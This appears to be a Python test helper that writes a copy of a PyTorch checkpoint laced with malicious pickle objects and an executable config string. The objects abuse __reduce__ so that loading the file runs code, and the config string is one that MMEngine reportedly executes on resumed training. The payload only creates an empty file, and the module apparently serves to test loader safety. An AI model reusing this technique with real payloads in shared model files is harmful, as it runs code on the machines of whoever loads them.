"""A pickle that does something, and a checkpoint that has one in it."""

from pathlib import Path

import torch


class Attack:
    """Creates a file when it is unpickled.

    Args:
        target: The file.
    """

    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self) -> tuple:
        return Path.touch, (self.target,)


def attack_with(checkpoint: Path, target: Path) -> Path:
    """Write a copy of a checkpoint, with attacks in several places.

    Args:
        checkpoint: A good file, of which only data are read.
        target: File beside which the copy goes, and that it creates.
    """
    content = torch.load(checkpoint, weights_only=False)
    content['evil'] = Attack(target)
    content.setdefault('meta', {})['evil'] = Attack(target)
    # MMEngine executes it when a training goes on
    content['meta']['config'] = f'open({str(target)!r}, "w").close()'
    if 'message_hub' in content:
        content['message_hub']['runtime_info']['evil'] = Attack(target)
    path = target.with_name(f'evil_{checkpoint.name}')
    torch.save(content, path)
    return path
